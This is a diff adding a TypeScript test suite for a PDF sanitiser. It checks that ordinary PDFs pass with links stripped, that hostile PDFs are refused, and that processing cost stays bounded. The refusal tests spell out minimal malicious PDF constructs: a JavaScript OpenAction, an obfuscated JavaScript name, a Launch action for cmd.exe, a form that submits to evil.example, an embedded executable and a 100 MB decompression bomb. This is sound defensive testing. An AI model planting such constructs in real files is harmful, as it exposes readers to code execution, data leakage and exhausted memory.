@@ -1,0 +1,112 @@
+import { readFileSync } from 'node:fs'
+import { deflateSync } from 'node:zlib'
+import { describe, expect, it } from 'vitest'
+import { costlyKinds, honestFiles, hostileFiles } from '#tests/support/fakes/pdf-corpus.ts'
+import { blankPage, blankPageWith, pdfFile, pdfStream } from '#tests/support/fakes/pdf-file.ts'
+import { cleanPdfInWorker } from './clean-in-worker.ts'
+import { cleanPdf } from './clean-pdf.ts'
+
+// `npm run test:hostile` shows the kept files to three readers of others.
+const fileOf = (name: string) => readFileSync(new URL(`../../../../tests/support/files/${name}`, import.meta.url))
+const verdict = (bytes: Buffer) => {
+  const clean = cleanPdf(bytes)
+  return typeof clean === 'string' ? clean : 'taken'
+}
+
+describe('takes', () => {
+  it.each([
+    'bill-with-web-link.pdf',
+    'chrome-bill.pdf',
+    'startxref-off-by-one.pdf',
+    'trailing-nuls-4096.pdf',
+    'junk-before-header.pdf',
+  ])('%s', (name) => {
+    const clean = cleanPdf(fileOf(name))
+    if (typeof clean === 'string') expect.fail(clean)
+    expect(clean.includes('/URI')).toBe(false)
+    expect(clean.includes('/Annots')).toBe(false)
+    expect(verdict(clean)).toBe('taken')
+  })
+
+  it('each honest file of the corpus', () => {
+    expect(honestFiles().filter(({ bytes }) => verdict(bytes) !== 'taken')).toEqual([])
+  })
+})
+
+const script = '<</S/JavaScript/JS(app.alert\\(1\\))>>'
+const bomb = deflateSync(Buffer.alloc(100 * 1024 * 1024))
+
+describe('refuses', () => {
+  it.each([
+    ['a script', pdfFile([...blankPageWith('/OpenAction 4 0 R'), script]), 'file_pdf_active'],
+    [
+      'a script behind numbers for letters',
+      pdfFile([...blankPage, '<</S/#4aava#53cript/#4AS 4 0 R>>']),
+      'file_pdf_active',
+    ],
+    ['a program to start', pdfFile([...blankPage, '<</S/Launch/F(cmd.exe)>>']), 'file_pdf_active'],
+    [
+      'a form that sends itself',
+      pdfFile([...blankPage, '<</S/SubmitForm/F(https://evil.example)>>']),
+      'file_pdf_active',
+    ],
+    [
+      'a program in it',
+      pdfFile([...blankPage, '<</Type/Filespec/UF(\xfe\xff\0a\0.\0e\0x\0e)/EF<</F 6 0 R>>>>']),
+      'file_pdf_active',
+    ],
+    ['a password', pdfFile(blankPage, '/Encrypt<</Filter/Standard/V 4>>'), 'file_pdf_protected'],
+    [
+      'a page that fills the memory',
+      pdfFile([
+        blankPage[0] ?? '',
+        blankPage[1] ?? '',
+        '<</Type/Page/Parent 2 0 R/Contents 4 0 R>>',
+        pdfStream('/Filter/FlateDecode', bomb),
+      ]),
+      'file_pdf_too_complex',
+    ],
+    ['no pages', pdfFile(['<</Type/Catalog>>']), 'file_damaged'],
+    ['a page whose contents were cut off', fileOf('bill-with-web-link.pdf').subarray(0, 420), 'file_damaged'],
+    ['nothing', Buffer.alloc(0), 'file_damaged'],
+  ])('%s', (_, bytes, problem) => {
+    expect(verdict(bytes)).toBe(problem)
+  })
+
+  it('what each hostile file of the corpus does in the open', () => {
+    const open = hostileFiles().filter(({ name }) =>
+      /, (?:in the open|packed|letters as numbers|in the second table)$/.test(name),
+    )
+    expect(open.length).toBeGreaterThan(40)
+    expect(open.filter(({ bytes }) => verdict(bytes) !== 'file_pdf_active').map(({ name }) => name)).toEqual([])
+  })
+})
+
+describe('costs no more than a file of its size may', () => {
+  const cost = (bytes: Buffer) => {
+    const before = process.cpuUsage()
+    cleanPdf(bytes)
+    const { user, system } = process.cpuUsage(before)
+    return (user + system) / 1_000
+  }
+
+  it.each(Object.entries(costlyKinds))('%s', (_, make) => {
+    const [small, large] = [600_000, 4_800_000].map((size) => {
+      const bytes = make(size)
+      return Math.min(cost(bytes), cost(bytes))
+    }) as [number, number]
+    // Eight times the bytes: linear work takes eight times as long, and quadratic work 64 times.
+    expect(large).toBeLessThan(Math.max(20 * small, 150))
+    expect(large).toBeLessThan(1_500)
+  })
+})
+
+describe('in a thread of its own', () => {
+  const log = { warn: () => {} }
+
+  it('gives the same file', async () => {
+    const bill = fileOf('chrome-bill.pdf')
+    expect(Buffer.from((await cleanPdfInWorker(bill, log)) as Uint8Array)).toEqual(cleanPdf(bill))
+    expect(await cleanPdfInWorker(pdfFile([...blankPage, script]), log)).toBe('file_pdf_active')
+  })
+})
